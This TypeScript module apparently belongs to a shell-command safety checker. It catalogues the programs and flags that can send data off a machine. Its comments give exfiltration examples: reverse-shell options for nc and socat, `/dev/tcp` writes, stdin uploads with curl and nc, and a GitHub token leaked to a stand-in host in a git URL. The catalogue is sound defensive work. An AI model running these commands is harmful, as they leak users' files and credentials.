import type { Invocation } from './command.ts';
import { gitSubcommandAt } from './git-global-options.ts';
import { type Destination, sinkHosts, urlArgumentHosts } from './request-hosts.ts';
import type { Redirect } from './syntax.ts';
import { transferUploads } from './transfer-commands.ts';

/**
 * The programs that send data off the machine, in one table (docs/safety.md, exfiltration). Each
 * sends its arguments (a URL, a header, a host name, a message, a remote command) and the files
 * they name (`curl -d @FILE`, `-F f=@FILE`, `-T FILE`, `wget --post-file=FILE`, `scp FILE h:`,
 * `aws s3 cp FILE s3://…`, `gh gist create FILE`); the table says which also send what they read
 * on stdin. A file named `-` or `/dev/stdin` is stdin (`curl -d @-`, `aws s3 cp - s3://b/x`).
 * Bash's own sockets, `/dev/tcp/HOST/PORT` and `/dev/udp/…`, are a sink too (networkPath).
 */

/** Whether a sink sends what it reads on stdin, given its arguments and the files they name (namedFiles). */
type ReadsStdin = (args: readonly string[], named: readonly string[]) => boolean;

/** The names that stand for stdin. */
const STDIN_NAMES = new Set(['-', '/dev/stdin', '/dev/fd/0', '/proc/self/fd/0']);

const ALWAYS: ReadsStdin = () => true;
/** It sends stdin where an argument names it as a file (`aws s3 cp - s3://b/x`, `gh issue create --body-file -`). */
const NAMED: ReadsStdin = (_, named) => named.some((f) => STDIN_NAMES.has(f));

/** curl sends stdin as data or a form field (`-d @-`, `--data-binary @-`, `-F f=@-`, `-F f=<-`) or an upload (`-T -`, `-T .`); not `-o -`, which writes to stdout. */
const curlReadsStdin: ReadsStdin = (a) =>
  a.some((x, i) => /^@-$|^<-$|=@-$|=<-$|^-[A-Za-z]*[dF]@-$/.test(x) || ((x === '-T' || x === '--upload-file') && (a[i + 1] === '-' || a[i + 1] === '.')));

/** wget sends stdin as a POST body: `--post-file=-`, `--body-file /dev/stdin`; not `-O -`. */
const wgetReadsStdin: ReadsStdin = (a) =>
  a.some((x, i) => /^--(post|body)-file=(-|\/dev\/stdin)$/.test(x) || (/^--(post|body)-file$/.test(x) && STDIN_NAMES.has(a[i + 1] ?? '')));

/** HTTPie and xh send a body piped in unless told to ignore stdin. */
const httpieReadsStdin: ReadsStdin = (a) => !a.includes('--ignore-stdin') && !a.includes('-I');

/** `gh gist create` with no file reads stdin; `gh secret set NAME` and `gh variable set NAME` without a value too. */
const ghReadsStdin: ReadsStdin = (a, named) => {
  if (NAMED(a, named)) return true;
  const ops = a.filter((x) => !x.startsWith('-'));
  if (ops[0] === 'gist' && ops[1] === 'create') return ops.length === 2;
  if ((ops[0] === 'secret' || ops[0] === 'variable') && ops[1] === 'set')
    return !a.some((x) => /^(-b|--body)(=|$)/.test(x) || /^-[A-Za-z]*f$|^--env-file/.test(x));
  return false;
};

/** The sinks by program name (see the module's comment): each with whether it sends its stdin besides the files it names. */
const SINKS: Record<string, ReadsStdin> = {
  curl: curlReadsStdin,
  wget: wgetReadsStdin,
  http: httpieReadsStdin,
  https: httpieReadsStdin,
  xh: httpieReadsStdin,
  xhs: httpieReadsStdin,
  // more HTTP clients: curlie (curl's options), wget2 (wget's), restish (a body piped in, or in its
  // words), the download managers aria2c and axel (the URL requested carries its query)
  curlie: curlReadsStdin,
  wget2: wgetReadsStdin,
  restish: ALWAYS,
  aria2c: NAMED,
  axel: NAMED,
  nc: ALWAYS,
  ncat: ALWAYS,
  netcat: ALWAYS,
  socat: ALWAYS,
  telnet: ALWAYS,
  ssh: ALWAYS,
  scp: NAMED,
  sftp: NAMED,
  // ssh's kin: PuTTY's plink, pscp and psftp, dropbear's dbclient
  plink: ALWAYS,
  dbclient: ALWAYS,
  pscp: NAMED,
  psftp: NAMED,
  rsync: NAMED,
  // mail: the body is stdin, attachments the files named
  mail: ALWAYS,
  mailx: ALWAYS,
  sendmail: ALWAYS,
  mutt: ALWAYS,
  neomutt: ALWAYS,
  msmtp: ALWAYS,
  ssmtp: ALWAYS,
  // object stores and hosting CLIs: `aws s3 cp - s3://b/x`, `gsutil cp - gs://b/x`, `rclone rcat r:x`, `mc pipe`
  aws: NAMED,
  gsutil: NAMED,
  gcloud: NAMED,
  az: NAMED,
  s3cmd: NAMED,
  azcopy: NAMED,
  rclone: (a, named) => a.includes('rcat') || NAMED(a, named),
  mc: (a, named) => a.includes('pipe') || NAMED(a, named),
  gh: ghReadsStdin,
  // message buses and notifications: a message to a broker's or a service's subscribers, its body read from stdin
  // (`mosquitto_pub -s`, `kcat -P`, `kafka-console-producer`, `amqp-publish`, `apprise`, `nats pub`, `ntfy publish`, `gotify push`)
  mosquitto_pub: (a) => a.includes('-s') || a.includes('-l') || a.includes('--stdin-file') || a.includes('--stdin-line'),
  kcat: (a) => a.includes('-P'),
  kafkacat: (a) => a.includes('-P'),
  'kafka-console-producer': ALWAYS,
  'kafka-console-producer.sh': ALWAYS,
  'amqp-publish': ALWAYS,
  apprise: ALWAYS,
  nats: (a) => a.includes('pub') || a.includes('publish') || a.includes('request') || a.includes('req'),
  ntfy: ALWAYS,
  gotify: ALWAYS,
  'redis-cli': (a) => a.includes('-x'),
  // name lookups and pings send their arguments (a host name can carry data)
  dig: NAMED,
  nslookup: NAMED,
  host: NAMED,
  drill: NAMED,
  ping: NAMED,
  ping6: NAMED,
  // and so do the other lookups, traces, scans and probes: a name resolved, a packet's payload (`nping --data-string`, `hping3 -E FILE`), a whois query
  resolvectl: NAMED,
  getent: NAMED,
  kdig: NAMED,
  doggo: NAMED,
  dog: NAMED,
  traceroute: NAMED,
  traceroute6: NAMED,
  tcptraceroute: NAMED,
  tracepath: NAMED,
  mtr: NAMED,
  'ssh-keyscan': NAMED,
  nmap: NAMED,
  nping: NAMED,
  hping3: NAMED,
  fping: NAMED,
  whois: NAMED,
  iperf3: NAMED,
  iperf: NAMED,
  // more mail and chat clients: the body is stdin
  swaks: ALWAYS,
  sendxmpp: ALWAYS,
  // file-transfer clients: the files named, and those their command scripts upload (transfer-commands.ts)
  tftp: NAMED,
  ftp: NAMED,
  smbclient: NAMED,
  lftp: NAMED,
  ncftpput: NAMED,
  // more storage services' upload CLIs, paste and file-share services (a paste reads stdin)
  s5cmd: NAMED,
  b2: NAMED,
  oci: NAMED,
  'mega-put': NAMED,
  megaput: NAMED,
  ffsend: NAMED,
  wrangler: NAMED,
  'linode-cli': NAMED,
  gist: ALWAYS,
  pastebinit: ALWAYS,
  wgetpaste: ALWAYS,
  // WebSocket and gRPC clients: a message on stdin or in their words (`wscat -x MSG`, `grpcurl -d @` reads stdin)
  websocat: ALWAYS,
  wscat: ALWAYS,
  grpcurl: (a) => a.includes('@'),
  // browsers and URL openers: the URL handed to them is requested, with whatever its query carries
  'xdg-open': NAMED,
  open: NAMED,
  wslview: NAMED,
  'sensible-browser': NAMED,
  'x-www-browser': NAMED,
  'www-browser': NAMED,
  firefox: NAMED,
  chromium: NAMED,
  'chromium-browser': NAMED,
  'google-chrome': NAMED,
  'google-chrome-stable': NAMED,
  'brave-browser': NAMED,
  'microsoft-edge': NAMED,
  lynx: NAMED,
  w3m: NAMED,
  links: NAMED,
  elinks: NAMED,
};

/** `python -m webbrowser URL`: Python's URL opener, as xdg-open. */
const pythonOpener = (a: readonly string[]) => (a[0] === '-m' && a[1] === 'webbrowser' ? NAMED : null);

/**
 * git's commands that write their message, or the files they name, into what a push carries off:
 * a commit, a tag, a note (`refs/notes/axme` goes with `axme sync`), a file added (`-F -` reads
 * the message from stdin). Printing a secret into a file alone sends nothing; adding it does.
 */
const GIT_RECORDS = new Set(['commit', 'commit-tree', 'tag', 'notes', 'add']);

/** `openssl s_client` sends stdin to the server it connects to; openssl's other commands stay on the machine. git: GIT_RECORDS. logger: to a remote syslog. */
const SUBCOMMAND_SINKS: Record<string, (args: readonly string[]) => ReadsStdin | null> = {
  openssl: (a) => (a[0] === 's_client' ? ALWAYS : null),
  // `logger -n HOST` (`--server`): what it reads goes to that host's syslog, not the machine's journal
  logger: (a) => (a.some((x) => x === '-n' || /^--server(=|$)|^-n./.test(x)) ? ALWAYS : null),
  git: (a) => (GIT_RECORDS.has(a[gitSubcommandAt(a)] ?? '') ? NAMED : null),
  python: pythonOpener,
  python3: pythonOpener,
};

/**
 * git's commands that contact a remote, and the package installers: handed a URL (`git clone URL`,
 * `git ls-remote URL`, `pip install --index-url URL`, `npm install git+https://…`), they send the
 * credentials their words hold to its host, as its user part or a header (`git -c
 * http.extraHeader=…`), and nothing else of this machine's. A credential so sent to a host it does
 * not belong to leaves (`git clone https://$(gh auth token)@x.example.com/r`); to its own it is
 * its use (`git clone https://x-access-token:$(gh auth token)@github.com/acme/app.git`). Handed no
 * URL (a remote's name), they are no sink.
 */
const GIT_REMOTE_VERBS = new Set(['clone', 'fetch', 'pull', 'push', 'ls-remote']);
const URL_INSTALLERS = new Set(['pip', 'pip3', 'uv', 'pipx', 'npm', 'pnpm', 'yarn', 'bun']);

function urlSink(inv: Invocation, args: readonly string[]): Sink | null {
  const p = inv.program;
  if (!(URL_INSTALLERS.has(p) || (p === 'git' && GIT_REMOTE_VERBS.has(args[gitSubcommandAt(args)] ?? '')))) return null;
  if (!args.some((a) => a.includes('://'))) return null;
  return { program: p, stdin: false, files: [], runs: [], destination: urlArgumentHosts(inv.args), urlCredentials: true };
}

/** What a sink sends besides its arguments: whether its stdin, and the files it names (candidates: every spelling an argument may name one with). */
export interface Sink {
  program: string;
  stdin: boolean;
  files: string[];
  /** the command lines it runs and sends the output of: socat's `EXEC:`/`SYSTEM:` addresses, `ncat -e`/`--sh-exec`, `nc -e`/`-c` */
  runs: string[];
  /** where it sends the request, when that is known (sinkHosts); null when not */
  destination: Destination | null;
  /** it sends its words' credentials to the URLs it is handed, to authenticate there (urlSink): a credential the user put in one for a host no table knows is theirs to use */
  urlCredentials?: boolean;
}

/** Whether `inv` sends data off the machine, and what: null for a program that does not. */
export function networkSink(inv: Invocation): Sink | null {
  if (!Object.hasOwn(SINKS, inv.program) && !Object.hasOwn(SUBCOMMAND_SINKS, inv.program) && !URL_INSTALLERS.has(inv.program)) return null;
  const args = inv.args.map((w) => w.value);
  const remote = urlSink(inv, args);
  if (remote) return remote;
  if (!Object.hasOwn(SINKS, inv.program) && !Object.hasOwn(SUBCOMMAND_SINKS, inv.program)) return null;
  const reads = SINKS[inv.program] ?? SUBCOMMAND_SINKS[inv.program]!(args);
  if (!reads) return null;
  const named = [...args.flatMap(namedFiles), ...transferUploads(inv).map((u) => u.path)];
  const stdin = reads(args, named);
  // what it reads on stdin is a file it sends: `nc h 1 < FILE`
  const files = stdin ? [...named, ...inputFiles(inv.command.redirects)] : named;
  return { program: inv.program, stdin, files: files.filter((f) => !STDIN_NAMES.has(f)), runs: runCommands(inv.program, args), destination: sinkHosts(inv) };
}

/** The options of nc and ncat that run a program on the connection (`-e /usr/bin/env`, `--sh-exec env`): its output is sent. */
const EXEC_OPTIONS = new Set(['-e', '-c', '--exec', '--sh-exec', '--lua-exec']);

/** The command lines a sink runs and sends the output of (Sink.runs); `-e/bin/sh` carries its value. */
function runCommands(program: string, args: readonly string[]): string[] {
  if (program === 'socat') return args.flatMap((a) => /^(?:EXEC|SYSTEM):(.*?)(?:,[\w-]+(?:=[^,]*)?)*$/i.exec(a)?.[1] ?? []);
  if (program === 'nc' || program === 'ncat' || program === 'netcat')
    return args.flatMap((a, i) => (EXEC_OPTIONS.has(a) ? (args[i + 1] ?? []) : (/^(?:--(?:sh-)?exec=|-e)(.+)$/.exec(a)?.[1] ?? [])));
  return [];
}

/** socat's addresses that reach the network (`TCP:h:p`, `TCP-LISTEN:4444`, `OPENSSL:h:p`, `UDP4-RECVFROM:53`), not a file, a pipe or stdio. */
const SOCAT_NETWORK = /^(?:tcp|udp|sctp|dccp|openssl|ssl|socks|proxy|ip|vsock)[\w-]*:/i;

/**
 * Whether `inv` holds a connection to another machine open, reading from it and writing into it
 * (the programs that make one of stdin and stdout: `nc h p`, `nc -l 8080`, `telnet h p`, `openssl
 * s_client -connect h:p`, socat with a network address): what it reads arrives from whoever is at
 * the other end. Not the clients of one request (`curl`, `ssh`, which authenticates the host).
 */
export function opensConnection(inv: Invocation): boolean {
  const p = inv.program;
  if (p === 'nc' || p === 'ncat' || p === 'netcat' || p === 'telnet' || p === 'cryptcat' || p === 'pwncat') return true;
  if (p === 'openssl') return /^s_(client|server)$/.test(inv.args[0]?.value ?? '');
  if (p === 'socat') return inv.args.some((a) => SOCAT_NETWORK.test(a.value));
  return false;
}

/**
 * The files one argument may name: the word itself, what follows an `@` (`@FILE`, `f=@FILE`,
 * `name@FILE`), a `<` (`f=<FILE`, `<FILE`), an `=` (`--post-file=FILE`) or a cluster of short options
 * (`-d@FILE`, `-TFILE`), each without curl's `;type=…` tail. Only ever compared with the names of
 * secrets, so a word that names no file costs nothing.
 */
export function namedFiles(arg: string): string[] {
  const out = new Set<string>([arg]);
  const at = arg.lastIndexOf('@');
  if (at >= 0) out.add(arg.slice(at + 1));
  const lt = arg.indexOf('<');
  if (lt >= 0) out.add(arg.slice(lt + 1));
  const eq = arg.indexOf('=');
  if (eq >= 0) out.add(arg.slice(eq + 1));
  const short = /^-[A-Za-z]+(.+)$/.exec(arg);
  if (short) out.add(short[1]!);
  return [...out].map((f) => f.replace(/;.*$/, '')).filter(Boolean);
}

/** The files a command reads on stdin: `< FILE`, `<> FILE`. */
export function inputFiles(redirects: readonly Redirect[]): string[] {
  return redirects.filter((r) => (r.op === '<' || r.op === '<>') && r.target && r.input === null).map((r) => r.target!.value);
}

/** Bash's network files: writing to `/dev/tcp/HOST/PORT` or `/dev/udp/HOST/PORT` sends it to that host. */
export function networkPath(path: string): boolean {
  return path.startsWith('/dev/') && /^\/dev\/(tcp|udp)\/[^/]+\/[^/]+$/.test(path);
}
